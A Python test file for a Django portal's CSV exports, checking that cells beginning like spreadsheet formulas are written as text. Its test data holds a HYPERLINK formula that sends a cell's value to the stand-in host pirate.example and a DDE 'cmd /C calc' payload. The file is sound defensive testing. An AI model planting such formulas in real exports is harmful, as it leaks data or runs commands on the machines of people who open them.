"""Every CSV the portal writes keeps a citizen's formula as text (CSV injection)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from common.spreadsheets import SafeWriter, neutralise
from procedures.models import Request
from tests.procedures.test_anonymous import certificate_procedure, valid_data

PLANTED = '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez ici")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Martin = Dupont", "Martin = Dupont"),  # only the first character counts
        ("12 rue des Écoles", "12 rue des Écoles"),
        (None, ""),
        (3, "3"),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(typed, written):
    assert neutralise(typed) == written


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeWriter(out, delimiter=";").writerow(["=A1", "ok", "@B2"])
    assert out.getvalue() == "'=A1;ok;'@B2\r\n"


@pytest.mark.django_db
def test_an_anonymous_request_cannot_plant_a_formula_in_the_clerks_export(client, tmp_path):
    procedure = certificate_procedure()
    response = client.post(
        reverse("procedures:anonymous_start", args=[procedure.slug]),
        valid_data(address=PLANTED, city="@SUM(1+1)*cmd|' /C calc'!A0"),
    )
    assert response.status_code == 302, response.context["form"].errors
    assert Request.objects.get().address.startswith("=HYPERLINK")  # kept as typed...
    target = tmp_path / "actes.csv"
    today = timezone.localdate().strftime("%d/%m/%Y")
    call_command(
        "export_requests", procedure.slug, "--du", today, "--au", today, "--sortie", str(target)
    )
    text = target.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # ...and exported as text
